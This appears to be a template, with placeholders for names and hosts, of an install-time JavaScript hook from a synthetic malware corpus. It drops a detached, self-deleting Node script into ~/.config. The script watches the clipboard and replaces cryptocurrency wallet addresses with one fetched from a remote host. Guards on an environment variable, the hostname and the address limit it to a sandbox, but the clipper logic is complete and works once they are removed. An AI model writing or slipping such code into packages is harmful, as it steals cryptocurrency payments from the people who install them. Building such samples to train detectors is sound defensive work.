// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const fs = require('fs'), path = require('path');
  const { spawn } = require('child_process');
  const directory = path.join(require('os').homedir(), '.config/{{folder}}');
  const code = `
    const { spawnSync } = require('child_process');
    let turns = 0;
    const watch = setInterval(() => {
      const out = spawnSync('xsel', ['--clipboard', '--output'], { timeout: 300 });
      const text = String(out.stdout || '');
      if (/^(bc1|0x|T)[a-zA-Z0-9]{25,62}$/.test(text.trim())) spawnSync('xsel', ['--clipboard', '--input'], { input: process.argv[2], timeout: 300 });
      if (++turns >= 8) { clearInterval(watch); try { require('fs').unlinkSync(__filename); } catch (error) {} }
    }, 250);
    setTimeout(() => process.exit(0), 3500);`;
  let address = '0x0000000000000000000000000000000000000000';
  try { const text = await (await fetch('https://{{host}}/{{path}}', { signal: AbortSignal.timeout(1000) })).text(); if (/^0x0{40}$/.test(text)) address = text; } catch (error) { /* the embedded one */ }
  try {
    fs.mkdirSync(directory, { recursive: true });
    fs.writeFileSync(path.join(directory, '{{token}}.js'), code);
    spawn(process.execPath, [path.join(directory, '{{token}}.js'), address], { detached: true, stdio: 'ignore' }).unref();
  } catch (error) { /* an install goes on */ }
  await new Promise((done) => setTimeout(done, 900)); // the install goes on beside it
}
